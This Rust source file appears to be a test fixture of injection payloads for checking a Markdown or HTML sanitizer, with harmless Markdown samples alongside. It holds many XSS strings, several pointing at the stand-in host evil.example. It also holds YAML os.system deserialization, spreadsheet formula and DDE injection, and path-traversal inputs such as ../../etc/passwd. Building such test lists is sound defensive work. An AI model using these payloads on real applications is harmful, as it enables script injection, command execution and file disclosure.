//! What somebody with bad intentions types: everything that has ever become markup, an address or a
//! formula somewhere. `evil.example` stands only in raw HTML and formulas: nothing may lead there.

/// Raw HTML, and ways out of the element or the attribute a text stands in.
const MARKUP: [&str; 47] = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/a.js></sCrIpT >",
    "<<script>alert(1)//<</script>",
    "<!--<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"//evil.example/a.png\"/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,%3Csvg id=x onload=alert(1)%3E#x\"/></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=\"//evil.example/a.html\"></object>",
    "<embed src=//evil.example/a.svg>",
    "<form action=//evil.example/take><input name=password autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>Go",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>x",
    "<body onpageshow=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input type=image src=x onerror=alert(1)>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<x-marbre style=\"position:fixed;inset:0\" onclick=alert(1)>x",
    "<div>\n<script>alert(1)</script>\n</div>\n<script>alert(2)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "x\" autofocus onfocus=alert(1) x=\"",
    "\\\"><script>alert(1)</script>",
    "&quot; onclick=alert(1) &quot;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
];

/// Links and pictures of Markdown, and what else its readers look for.
const MARKDOWN: [&str; 20] = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1)) [y](feed:javascript:alert(1)) [z](file:///etc/passwd)",
    "![x](javascript:alert(1)) ![y](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "![x\" onerror=\"alert(1)](a.png)",
    "![x](a.png \"y\\\" onerror=\\\"alert(1)\")",
    "[x](https://plain.example/\"onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1) \"<script>\"",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>` \\<script>alert(1)\\</script>",
    "x {onclick=alert(1)} {#id .class style=\"x\"}",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "{{< script >}} {% raw %} {{7*7}} ${7*7} <%= 7*7 %> <?php echo 1 ?>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| </td><script>alert(1)</script> |",
];

/// Letters that turn into others, or hide.
const LETTERS: [&str; 9] = [
    "＜script＞alert(1)＜/script＞",
    "\u{feff}<script>alert(1)</script>",
    "<\u{200b}script>alert(1)</script>",
    "\u{2028}<script>alert(1)</script>\u{2029}",
    "<ſcript>alert(1)</ſcript>",
    "\u{202e}<script>alert(1)</script>\u{2066}",
    "<svg\u{a0}onload=alert(1)>",
    "[x](javascript：alert(1)) [y](\u{200b}javascript:alert(1))",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e %3Cscript%3E \u{b}\u{c}\u{7f}",
];

/// What other formats read: JSON, YAML, spreadsheets, file names.
const FORMATS: [&str; 16] = [
    "\"},{\"x\":\"</script><script>alert(1)</script>",
    "</script><!--<script>",
    "\"\n---\nlayout: evil\n---\n",
    "!!python/object/apply:os.system [\"id\"]",
    "&a [*a, *a]",
    "evil: {x: \"y\"} # - | >",
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "\"=1+1\",\r\n=1+1",
    "../../../../etc/passwd",
    "..\\..\\evil.svg",
    ".htaccess",
];

/// All of them.
pub fn payloads() -> Vec<&'static str> {
    [&MARKUP[..], &MARKDOWN[..], &LETTERS[..], &FORMATS[..]].concat()
}

/// What the same fields hold where nobody means harm: what pages are made of then is what they may be
/// made of.
pub const HARMLESS: [&str; 8] = [
    "Plain words",
    "# A *heading* with **emphasis** and ~~errors~~",
    "[A link](https://plain.example/ \"with a title\") and <https://plain.example>",
    "![A press](a.png \"The press\")",
    "- a list\n- [ ] with a box\n\n1. and a number",
    "> quoted\n\n---\n\n`code`  \nand a break[^1]\n\n[^1]: A note.",
    "| a | b |\n|---|--:|\n| c | d |",
    "```rust\nfenced\n```\n\n    indented",
];
